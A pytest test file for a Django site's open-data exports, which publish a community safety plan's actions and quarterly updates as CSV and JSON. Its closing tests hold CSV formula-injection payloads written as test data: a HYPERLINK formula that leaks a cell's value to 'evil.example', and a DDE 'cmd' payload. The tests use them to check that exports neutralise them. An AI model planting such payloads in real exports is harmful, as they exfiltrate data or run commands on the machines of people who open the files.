"""Open data: each plan's actions and every update on them as CSV and JSON, parsed back."""

import codecs
import csv
import io
import json
from datetime import date

import pytest
from django.utils.html import escape

from plans.open_data import OPEN_DATA_FIELDS, UPDATE_FIELDS, UPDATES_CSV_FIELDS, spreadsheet_safe
from plans.progress import Status
from tests.plans.factories import make_action, make_plan, make_priority, partner

pytestmark = pytest.mark.django_db


@pytest.fixture
def plan(home_page):
    plan = make_plan(home_page, "open", "Open plan")
    people = make_priority(plan, 1, title="People")
    places = make_priority(plan, 2, title="Places")
    make_action(
        people,
        'Refresh "Ask for Angela", with pubs; and clubs',
        reference="P01",
        group="Night-time economy",
        leads=[partner("Harborough District Council"), partner("Pubwatch")],
        supporting=[partner("Leicestershire Police")],
        possible_barriers="Venues closing; staff turnover",
        target_date=date(2026, 9, 30),
        # Entered out of order: the files give them newest first, across financial years.
        updates=[
            (2026, 1, Status.ON_TRACK, "Posters out.", [("Venues signed up", "12", "20")]),
            (
                2026,
                2,
                Status.COMPLETE,
                "All venues trained.\nFeedback gathered.",
                [("Venues signed up", "21", "20"), ("Staff trained", "64", "")],
            ),
            (2025, 4, Status.NOT_STARTED, "Agreed with Pubwatch.", []),
        ],
    )
    make_action(places, "Speed watch in villages", reference="PL01")
    return plan


def expected_updates():
    """P01's updates as the JSON gives them: newest first."""
    return [
        {
            "period": "2026/27 Q2",
            "year": 2026,
            "quarter": 2,
            "status": "complete",
            "status_label": "Complete",
            "summary": "All venues trained.\nFeedback gathered.",
            "figures": [
                {
                    "label": "Venues signed up",
                    "value": "21",
                    "target": "20",
                    "same_period_last_year": "",
                },
                {
                    "label": "Staff trained",
                    "value": "64",
                    "target": "",
                    "same_period_last_year": "",
                },
            ],
        },
        {
            "period": "2026/27 Q1",
            "year": 2026,
            "quarter": 1,
            "status": "on_track",
            "status_label": "On track",
            "summary": "Posters out.",
            "figures": [
                {
                    "label": "Venues signed up",
                    "value": "12",
                    "target": "20",
                    "same_period_last_year": "",
                }
            ],
        },
        {
            "period": "2025/26 Q4",
            "year": 2025,
            "quarter": 4,
            "status": "not_started",
            "status_label": "Not started",
            "summary": "Agreed with Pubwatch.",
            "figures": [],
        },
    ]


def expected_records():
    return [
        {
            "priority_number": 1,
            "priority": "People",
            "group": "Night-time economy",
            "reference": "P01",
            "action": 'Refresh "Ask for Angela", with pubs; and clubs',
            "lead_partners": ["Harborough District Council", "Pubwatch"],
            "supporting_partners": ["Leicestershire Police"],
            "target_date": "2026-09-30",
            "latest_period": "2026/27 Q2",
            "latest_status": "complete",
            "latest_status_label": "Complete",
            "latest_summary": "All venues trained.\nFeedback gathered.",
            "latest_figures": [
                {
                    "label": "Venues signed up",
                    "value": "21",
                    "target": "20",
                    "same_period_last_year": "",
                },
                {
                    "label": "Staff trained",
                    "value": "64",
                    "target": "",
                    "same_period_last_year": "",
                },
            ],
            "possible_barriers": "Venues closing; staff turnover",
            "updates": expected_updates(),
        },
        {
            "priority_number": 2,
            "priority": "Places",
            "reference": "PL01",
            "action": "Speed watch in villages",
            "lead_partners": [],
            "latest_period": "",
            "latest_status": "",
            "latest_status_label": "",
            "latest_summary": "",
            "latest_figures": [],
            "possible_barriers": "",
            "updates": [],
        },
    ]


# The columns of progress.csv as they were, in the same order (spreadsheets and scripts read
# them by name or by position), then the new ones at the end.
PROGRESS_CSV_COLUMNS = [
    "priority_number",
    "priority",
    "group",
    "reference",
    "action",
    "intended_outcome",
    "success_measures",
    "lead_partners",
    "supporting_partners",
    "target_date",
    "latest_period",
    "latest_status",
    "latest_status_label",
    "latest_summary",
    "latest_figures",
    "possible_barriers",
    "owners",
]
UPDATES_CSV_COLUMNS = [
    "priority_number",
    "reference",
    "action",
    "period",
    "year",
    "quarter",
    "status",
    "status_label",
    "summary",
    "figures",
]


def csv_rows(response):
    assert response.content.startswith(codecs.BOM_UTF8), "Excel needs the byte order mark"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_json_has_every_action_with_every_update(client, plan):
    response = client.get(plan.url + "progress.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    data = json.loads(response.content)
    assert data["plan"]["title"] == "Open plan"
    assert data["plan"]["url"].endswith(plan.url)
    assert data["plan"]["starts_on"] == "2026-04-01"
    assert data["fields"] == dict(OPEN_DATA_FIELDS)
    assert data["update_fields"] == dict(UPDATE_FIELDS)
    assert len(data["actions"]) == 2
    for record, expected in zip(data["actions"], expected_records(), strict=True):
        assert set(record) == {name for name, _ in OPEN_DATA_FIELDS}
        for key, value in expected.items():
            assert record[key] == value, key
        for update in record["updates"]:
            assert list(update) == [name for name, _ in UPDATE_FIELDS]
    # The latest_* keys are the first of the updates, as before.
    [first, _second] = data["actions"]
    latest = first["updates"][0]
    for name in ("period", "status", "status_label", "summary", "figures"):
        assert first[f"latest_{name}"] == latest[name], name


def test_csv_has_one_row_per_action_with_the_columns_it_had(client, plan):
    response = client.get(plan.url + "progress.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert 'filename="open-progress.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert list(rows[0]) == PROGRESS_CSV_COLUMNS
    json_records = json.loads(client.get(plan.url + "progress.json").content)["actions"]
    assert len(rows) == len(json_records) == 2
    for row, record in zip(rows, json_records, strict=True):
        assert row["action"] == record["action"]
        assert row["priority_number"] == str(record["priority_number"])
        assert row["lead_partners"] == "; ".join(record["lead_partners"])
        assert row["supporting_partners"] == "; ".join(record["supporting_partners"])
        assert row["latest_status"] == record["latest_status"]
        assert row["latest_summary"] == record["latest_summary"]
        assert row["possible_barriers"] == record["possible_barriers"]
    assert rows[0]["latest_figures"] == "Venues signed up: 21 (target 20); Staff trained: 64"
    assert rows[0]["possible_barriers"] == "Venues closing; staff turnover"


def test_updates_csv_has_one_row_per_update_newest_first(client, plan):
    response = client.get(plan.url + "updates.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert 'filename="open-progress-updates.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert list(rows[0]) == UPDATES_CSV_COLUMNS == [name for name, _ in UPDATES_CSV_FIELDS]
    # The action without updates has no rows; P01 has one per quarter, newest first.
    action = 'Refresh "Ask for Angela", with pubs; and clubs'
    assert rows == [
        {
            "priority_number": "1",
            "reference": "P01",
            "action": action,
            "period": "2026/27 Q2",
            "year": "2026",
            "quarter": "2",
            "status": "complete",
            "status_label": "Complete",
            "summary": "All venues trained.\nFeedback gathered.",
            "figures": "Venues signed up: 21 (target 20); Staff trained: 64",
        },
        {
            "priority_number": "1",
            "reference": "P01",
            "action": action,
            "period": "2026/27 Q1",
            "year": "2026",
            "quarter": "1",
            "status": "on_track",
            "status_label": "On track",
            "summary": "Posters out.",
            "figures": "Venues signed up: 12 (target 20)",
        },
        {
            "priority_number": "1",
            "reference": "P01",
            "action": action,
            "period": "2025/26 Q4",
            "year": "2025",
            "quarter": "4",
            "status": "not_started",
            "status_label": "Not started",
            "summary": "Agreed with Pubwatch.",
            "figures": "",
        },
    ]


def test_updates_csv_follows_the_plans_order_of_actions(client, plan):
    places = plan.get_children().get(slug="priority-2").specific
    make_action(
        places,
        "Community speed cameras",
        reference="PL02",
        updates=[(2026, 1, Status.AT_RISK, "Waiting for kit.", [])],
    )
    response = client.get(plan.url + "updates.csv")
    assert response.status_code == 200
    assert [(row["reference"], row["period"]) for row in csv_rows(response)] == [
        ("P01", "2026/27 Q2"),
        ("P01", "2026/27 Q1"),
        ("P01", "2025/26 Q4"),
        ("PL02", "2026/27 Q1"),
    ]


def test_plan_page_links_to_and_documents_the_open_data(client, plan):
    content = client.get(plan.url).content.decode()
    assert f'href="{plan.url}progress.csv"' in content
    assert f'href="{plan.url}updates.csv"' in content
    assert f'href="{plan.url}progress.json"' in content
    actions_file, updates_file = content.split("What each column of the updates file means")
    for name, _description in OPEN_DATA_FIELDS:
        assert f"<dt><code>{name}</code></dt>" in actions_file, name
    for name, description in UPDATES_CSV_FIELDS:
        assert f"<dt><code>{name}</code></dt><dd>{escape(description)}</dd>" in updates_file, (
            f"{name}: PlanPage.get_context needs "
            'context["open_data_update_fields"] = open_data.UPDATES_CSV_FIELDS'
        )


def test_nothing_from_an_unpublished_priority(client, plan):
    hidden = make_priority(plan, 3, title="Hidden priority")
    make_action(
        hidden,
        "Hidden action",
        reference="H01",
        possible_barriers="Hidden barrier",
        updates=[(2026, 1, Status.ON_TRACK, "Hidden summary", [("Hidden figure", "1", "")])],
    )
    assert "Hidden action" in client.get(plan.url + "progress.json").content.decode()
    hidden.unpublish()
    responses = {
        name: client.get(plan.url + name)
        for name in ("progress.json", "progress.csv", "updates.csv")
    }
    for name, response in responses.items():
        assert response.status_code == 200, name
        assert "Hidden" not in response.content.decode(), name
    assert len(json.loads(responses["progress.json"].content)["actions"]) == 2


def add_actions(plan, number):
    """More actions on both priorities, each with partners, barriers and four updates with
    figures: what could each cost a query if it were not prefetched."""
    priorities = [page.specific for page in plan.get_children()]
    for n in range(number):
        make_action(
            priorities[n % len(priorities)],
            f"Extra action {n}",
            reference=f"X{n:02d}",
            leads=[partner("HDC"), partner("Police")],
            supporting=[partner("Pubwatch")],
            possible_barriers="Funding",
            updates=[
                (2026, quarter, Status.ON_TRACK, f"Quarter {quarter}.", [("Referrals", "3", "4")])
                for quarter in range(1, 5)
            ],
        )


def test_open_data_query_count_does_not_grow_with_actions(queries, plan):
    """The same queries for the plan's 2 actions as for 22 with four updates each."""
    two = [queries.get(plan.url + name) for name in ("progress.json", "progress.csv")]
    add_actions(plan, 20)
    more = [queries.get(plan.url + name) for name in ("progress.json", "progress.csv")]
    assert len(json.loads(more[0].content)["actions"]) == 22
    for small, large in zip(two, more, strict=True):
        assert small.status_code == large.status_code == 200
        assert large.query_count == small.query_count, "\n".join(large.queries)


def test_updates_csv_query_count_does_not_grow_with_actions(queries, plan):
    two = queries.get(plan.url + "updates.csv")
    assert two.status_code == 200
    add_actions(plan, 20)
    more = queries.get(plan.url + "updates.csv")
    assert len(csv_rows(more)) == 3 + 20 * 4
    assert more.query_count == two.query_count, "\n".join(more.queries)


# CSV injection: a cell a spreadsheet would run as a formula is written as text.


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","Click")',
            '\'=HYPERLINK("http://evil.example","Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("- a bullet point", "'- a bullet point"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # A plain number cannot carry a formula, and stays a number.
        ("-5", "-5"),
        ("-2.5", "-2.5"),
        ("+5", "+5"),
        ("5", "5"),
        # Only the start of a cell matters.
        ("Speed watch = fewer speeders", "Speed watch = fewer speeders"),
        (" =1+1", " =1+1"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_safe(value, written):
    assert spreadsheet_safe(value) == written


@pytest.fixture
def hostile_plan(home_page):
    plan = make_plan(home_page, "hostile", "Hostile plan")
    priority = make_priority(plan, 1, title="=1+1")
    make_action(
        priority,
        '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
        reference="-5",
        group="@SUM(A1:A9)",
        intended_outcome="+cmd|' /C calc'!A0",
        success_measures="-2.5",
        leads=[partner("=2+2 Council"), partner("Police")],
        supporting=[partner("+Friends of the Park")],
        possible_barriers="-cuts to funding",
        updates=[
            (2026, 1, Status.ON_TRACK, "\t=1+1", [("=Figure", "-5", "")]),
            (2025, 4, Status.AT_RISK, "@SUM(B1:B9)", [("Referrals", "=1+1", "-")]),
        ],
    )
    return plan


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    client, hostile_plan
):
    text = client.get(hostile_plan.url + "progress.csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["priority"] == "'=1+1"
    assert row["action"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    assert row["group"] == "'@SUM(A1:A9)"
    assert row["intended_outcome"] == "'+cmd|' /C calc'!A0"
    assert row["lead_partners"] == "'=2+2 Council; Police"
    assert row["latest_summary"] == "'\t=1+1"
    assert row["latest_figures"] == "'=Figure: -5"
    assert row["supporting_partners"] == "'+Friends of the Park"
    assert row["possible_barriers"] == "'-cuts to funding"
    # Plain numbers are left as they are.
    assert row["reference"] == "-5"
    assert row["success_measures"] == "-2.5"
    assert row["priority_number"] == "1"
    for name, value in row.items():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), name
        assert not value.startswith("-") or value in ("-5", "-2.5"), name


def test_json_keeps_the_text_as_written(client, hostile_plan):
    """JSON is not opened by spreadsheets as formulas: it is left exactly as entered."""
    data = json.loads(client.get(hostile_plan.url + "progress.json").content)
    [record] = data["actions"]
    assert record["priority"] == "=1+1"
    assert record["group"] == "@SUM(A1:A9)"
    assert record["latest_summary"] == "\t=1+1"
    assert record["lead_partners"] == ["=2+2 Council", "Police"]
    assert record["possible_barriers"] == "-cuts to funding"
    assert [update["summary"] for update in record["updates"]] == ["\t=1+1", "@SUM(B1:B9)"]
    assert record["updates"][1]["figures"] == [
        {"label": "Referrals", "value": "=1+1", "target": "-", "same_period_last_year": ""}
    ]


def test_updates_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    client, hostile_plan
):
    response = client.get(hostile_plan.url + "updates.csv")
    assert response.status_code == 200
    newer, older = csv_rows(response)
    assert newer["action"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    assert newer["summary"] == "'\t=1+1"
    assert newer["figures"] == "'=Figure: -5"
    assert older["summary"] == "'@SUM(B1:B9)"
    assert older["figures"] == "Referrals: =1+1 (target -)"
    # Plain numbers are left as they are.
    assert newer["reference"] == older["reference"] == "-5"
    assert (newer["year"], newer["quarter"]) == ("2026", "1")
    for row in (newer, older):
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), name
            assert not value.startswith("-") or value == "-5", name
